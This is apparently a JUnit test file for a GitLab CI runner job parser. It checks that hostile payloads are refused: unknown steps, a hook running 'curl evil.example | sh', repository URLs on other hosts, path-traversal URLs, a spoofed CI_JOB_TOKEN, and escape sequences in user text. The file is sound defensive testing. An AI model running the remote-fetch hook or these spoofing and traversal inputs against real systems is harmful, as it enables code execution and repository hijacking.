package dev.migratedeploy.runner.job;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.migratedeploy.runner.RunnerPayload;
import dev.migratedeploy.verdict.RefusedException;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RunnerJobTest {
  private final RunnerPayload payload = RunnerPayload.ofDefaultBranch();

  @TempDir
  @SuppressWarnings("NullAway.Init")
  Path folder;

  @Test
  void theJobIsWhatTheRunnerSays() {
    RunnerJob job = payload.job();

    assertThat(job.id()).isEqualTo(1001);
    assertThat(job.token().reveal()).isEqualTo("glcbt-64_abc");
    assertThat(job.repository())
        .isEqualTo(URI.create("https://gitlab.example.com/shop/orders.git"));
    assertThat(job.projectWords()).isEqualTo("shop/orders (project 42)");
    assertThat(job.name()).isEqualTo("migrate");
    assertThat(job.stage()).isEqualTo("deploy");
    assertThat(job.sha()).isEqualTo(RunnerPayload.SHA);
    assertThat(job.beforeSha()).isEmpty();
    assertThat(job.timeout()).contains(Duration.ofHours(1));
    assertThat(job.ref().words()).isEqualTo("the branch \"main\"");
    assertThat(job.ref().isProtected()).contains(true);
  }

  @Test
  void neitherTheTokenNorTheUrlsPasswordIsPrinted() {
    assertThat(payload.wishing("MIGRATE_DEPLOY_ID_TOKEN", "a.b.c").job().toString())
        .doesNotContain("glcbt-64_abc")
        .doesNotContain("a.b.c");
  }

  /** As the Runner hands {@code run:} on to an executor without native steps. */
  @Test
  void aJobOfGitLabStepsIsRefusedThoughItArrivesAsAScript() {
    payload
        .with("", "run", List.of(Map.of("name", "hello", "script", "echo hi")))
        .with("", "steps", List.of(step("script", "step-runner ci")))
        .wishing("STEPS", "[{\"name\":\"hello\",\"script\":\"echo hi\"}]");

    assertThat(refusal()).contains("the job asks for run:");
  }

  @Test
  void stepsThatAnOlderRunnerWritesAsATextAreRefusedToo() {
    payload.with("", "run", "[{\"name\":\"hello\",\"script\":\"echo hi\"}]");

    assertThat(refusal()).contains("the job asks for run:");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "[]", " "})
  void withoutStepsOfGitLabThereIsNothingToRefuse(String run) {
    assertThat(payload.with("", "run", run).job().id()).isEqualTo(1001);
    assertThat(payload.with("", "run", List.of()).job().id()).isEqualTo(1001);
  }

  @ParameterizedTest
  @ValueSource(strings = {"run", "Script", "script ", "deploy", "pages", "before_script", ""})
  void aStepThatNobodyKnowsIsRefused(String name) {
    payload.with("", "steps", List.of(step("script", "true"), step(name, "true")));

    assertThat(refusal()).contains("the job asks for a step \"" + name + "\"");
  }

  @Test
  void theStepsOfAnOrdinaryJobAreKnown() {
    payload.with(
        "", "steps", List.of(step("script", "a"), step("release", "b"), step("after_script", "c")));

    assertThat(payload.job().name()).isEqualTo("migrate");
  }

  @Test
  void aJobThatWouldNeverComeToItsScriptIsRefused() {
    payload.with("", "steps", List.of(step("release", "a"), step("after_script", "b")));
    assertThat(refusal()).contains("the job has no script");

    assertThat(payload.with("", "steps", List.of())).isNotNull();
    assertThat(refusal()).contains("the job has no script");

    assertThat(payload.with("", "steps", null)).isNotNull();
    assertThat(refusal()).contains("the job has no script");
  }

  @Test
  void twoScriptsAreRefused() {
    payload.with("", "steps", List.of(step("script", "a"), step("script", "b")));

    assertThat(refusal()).contains("the step \"script\" twice");
  }

  @Test
  void aHookIsRefused() {
    payload.with("", "hooks", List.of(step("pre_get_sources_script", "curl evil.example | sh")));

    assertThat(refusal()).contains("hooks:", "pre_get_sources_script");
  }

  /** They are filled into scripts and images, which nobody reads here. */
  @Test
  void inputsChangeNothing() {
    payload.with(
        "", "inputs", List.of(Map.of("key", "environment", "value", Map.of("content", "x"))));

    assertThat(payload.job())
        .usingRecursiveComparison()
        .isEqualTo(RunnerPayload.ofDefaultBranch().job());
  }

  private static Map<String, Object> step(String name, String script) {
    return Map.of("name", name, "script", List.of(script));
  }

  @ParameterizedTest
  @CsvSource({
    "MIGRATE_DEPLOY_DRY_RUN, true",
    "MIGRATE_DEPLOY_DRY_RUN, 1",
    "MIGRATE_DEPLOY_TARGET, acme",
    "MIGRATE_DEPLOY_AS_PLANNED, plan.json",
    "MIGRATE_DEPLOY_AS_PLANNED, true"
  })
  void aVariableThatWouldHaveMadeADeploySmallerIsRefused(String name, String value) {
    payload.wishing(name, value);

    assertThat(refusal()).contains("the job sets " + name);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "MIGRATE_DEPLOY_FORCE",
        "MIGRATE_DEPLOY_SINCE",
        "MIGRATE_DEPLOY_TIMEOUT",
        "MIGRATE_DEPLOY_ON_CANCEL",
        "MIGRATE_DEPLOY_IF_RUNNING",
        "MIGRATE_DEPLOY_REPORT_DIR",
        "MIGRATE_DEPLOY_POLICY",
        "MIGRATE_DEPLOY_STATE_DIR",
        "FLYWAY_TARGET",
        "JAVA_TOOL_OPTIONS",
        "DOCKER_AUTH_CONFIG",
        "GITLAB_TOKEN",
        "TMPDIR",
        "HOME",
        "LC_ALL",
        "AWS_ROLE_ARN",
        "AWS_WEB_IDENTITY_TOKEN_FILE",
        "GIT_STRATEGY",
        "CI_DEBUG_TRACE",
        "RUNNER_SCRIPT_TIMEOUT",
        "STEPS",
        "FF_CONCRETE"
      })
  void otherVariablesAreNotRead(String name) {
    assertThat(payload.wishing(name, "evil").job())
        .usingRecursiveComparison()
        .isEqualTo(RunnerPayload.ofDefaultBranch().job());
  }

  @Test
  void predefinedVariablesThatAUserHasSetChangeNothingButTheWish() {
    RunnerJob job =
        payload
            .wishing("CI_PROJECT_ID", "1")
            .wishing("CI_PROJECT_PATH", "bank/vault")
            .wishing("CI_COMMIT_SHA", "0".repeat(40))
            .wishing("CI_COMMIT_REF_NAME", "release")
            .wishing("CI_COMMIT_REF_PROTECTED", "true")
            .wishing("CI_SERVER_URL", "https://evil.example")
            .wishing("CI_JOB_ID", "7")
            .wishing("CI_JOB_TOKEN", "stolen")
            .job();

    assertThat(job).usingRecursiveComparison().isEqualTo(RunnerPayload.ofDefaultBranch().job());
  }

  @Test
  void theLastOfSeveralVariablesOfANameIsTheWishAsInTheRunner() {
    assertThat(payload.wishing("MIGRATE_DEPLOY_ENV", "staging").job().wish().environment())
        .contains("staging");
  }

  @Test
  void withoutAnyOtherWishTheJobsOwnEnvironmentIsMeant() {
    JobRequest wish =
        payload
            .wishing("MIGRATE_DEPLOY_ENV", " ")
            .wishing("CI_ENVIRONMENT_NAME", "review")
            .job()
            .wish();

    assertThat(wish.environment()).contains("review");
    assertThat(wish.command()).isEmpty();
    assertThat(wish.settingsFile()).isEmpty();
    assertThat(wish.idToken()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "branch, main, BRANCH",
    "tag, v1, TAG",
    "branch, refs/merge-requests/7/head, MERGE_REQUEST",
    "branch, refs/workloads/1, OTHER",
    "tag, refs/tags/v1, OTHER",
    "else, main, OTHER"
  })
  void theKindOfRefIsTold(String type, String name, JobRef.Kind kind) {
    assertThat(payload.onRef(type, name, true).job().ref().kind()).isEqualTo(kind);
  }

  @Test
  void anOlderGitLabDoesNotSayWhetherTheRefIsProtectedNorTheProjectsPath() {
    RunnerJob job =
        payload
            .with("git_info", "protected", null)
            .with("job_info", "project_full_path", null)
            .job();

    assertThat(job.ref().isProtected()).isEmpty();
    assertThat(job.projectPath()).isEqualTo("shop/orders");
  }

  @Test
  void aGitLabBelowAPathIsUnderstood() {
    RunnerJob job =
        payload
            .with("git_info", "repo_url", "https://u:p@example.com:443/git/lab/shop/sub/orders.git")
            .with("job_info", "project_full_path", "shop/sub/orders")
            .job(URI.create("https://example.com/git/lab"));

    assertThat(job.projectPath()).isEqualTo("shop/sub/orders");
    assertThat(job.repository())
        .isEqualTo(URI.create("https://example.com/git/lab/shop/sub/orders.git"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil.example/shop/orders.git",
        "https://gitlab.example.com.evil.example/shop/orders.git",
        "https://gitlab.example.com@evil.example/shop/orders.git",
        "https://gitlab.example.com:8443/shop/orders.git",
        "http://gitlab.example.com/shop/orders.git",
        "file:///shop/orders.git",
        "https://gitlab.example.com/.git"
      })
  void aRepositoryOnAnotherServerIsRefused(String url) {
    payload.with("git_info", "repo_url", url);

    assertThat(refusal()).containsAnyOf("this runner's policy is for", "is not a URL");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://gitlab.example.com/shop/../bank/vault.git",
        "https://gitlab.example.com/shop/%2e%2e/vault.git",
        "https://gitlab.example.com/shop//orders.git",
        "https://gitlab.example.com/orders.git",
        "https://gitlab.example.com/shop/orders.git?x",
        "https://gitlab.example.com/shop/orders.git#x",
        "https://gitlab.example.com/shop/orders"
      })
  void aUrlThatIsNoProjectsIsRefused(String url) {
    payload.with("git_info", "repo_url", url).with("job_info", "project_full_path", null);

    assertThat(refusal()).isNotEmpty();
  }

  @Test
  void aPathThatDoesNotAgreeWithTheRepositoryIsRefused() {
    payload.with("job_info", "project_full_path", "bank/vault");

    assertThat(refusal()).contains("do not agree");
  }

  @ParameterizedTest
  @CsvSource({
    "'', id",
    "'', token",
    "job_info, project_id",
    "job_info, name",
    "job_info, stage",
    "git_info, repo_url",
    "git_info, sha",
    "git_info, ref",
    "git_info, ref_type"
  })
  void whatIsMissingIsNamed(String section, String key) {
    payload.with(section, key, null);

    assertThat(refusal()).contains("it does not say").contains(key);
  }

  @ParameterizedTest
  @CsvSource({
    "'', id, 0",
    "'', id, many",
    "'', token, 'a b'",
    "job_info, project_id, '42'",
    "git_info, sha, main",
    "git_info, sha, 9BE01D4A5F0C3E6B7D8A9C0B1E2F3A4B5C6D7E8F",
    "git_info, protected, 'true'"
  })
  void aValueOfAnotherFormIsRefused(String section, String key, String value) {
    payload.with(section, key, value);

    assertThat(refusal()).contains(key);
  }

  @Test
  void aLineBreakInARefIsRefused() {
    payload.with("git_info", "ref", "main\nsection_start");

    assertThat(refusal()).contains("git_info.ref");
  }

  @Test
  void aSha256RepositoryIsRefused() {
    payload.with("git_info", "sha", "a".repeat(64));

    assertThat(refusal()).contains("SHA-256");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "[]", "{", "{} {}", "{\"token\": \"secret\", \"token\": \"secret\"}"})
  void whatTheRunnerDoesNotWriteIsRefusedAndNotShown(String text) throws IOException {
    Path file = Files.writeString(folder.resolve("job.json"), text);

    assertThat(refusalOf(file)).contains("JOB_RESPONSE_FILE").doesNotContain("secret");
  }

  @Test
  void anEndlessFileIsNotRead() throws IOException {
    Path file = Files.writeString(folder.resolve("job.json"), " ".repeat((16 << 20) + 1));

    assertThat(refusalOf(file)).contains("larger than 16 MiB");
  }

  @Test
  void aFileThatIsNotThereIsRefused() {
    assertThat(refusalOf(folder.resolve("none.json"))).contains("NoSuchFileException");
  }

  @Test
  void whatAUserWroteIsShownInOneHarmlessLine() {
    assertThat(LogSafe.quoted("a\u001b[0Kb\nc\u202ed")).isEqualTo("\"a?[0Kb?c?d\"");
    assertThat(LogSafe.quoted("x".repeat(81))).isEqualTo("\"" + "x".repeat(80) + "…\"");
  }

  private String refusal() {
    return catchThrowableOfType(RefusedException.class, payload::job).problem().cause();
  }

  private static String refusalOf(Path file) {
    return catchThrowableOfType(
            RefusedException.class, () -> RunnerJob.read(file, RunnerPayload.GITLAB))
        .problem()
        .cause();
  }
}
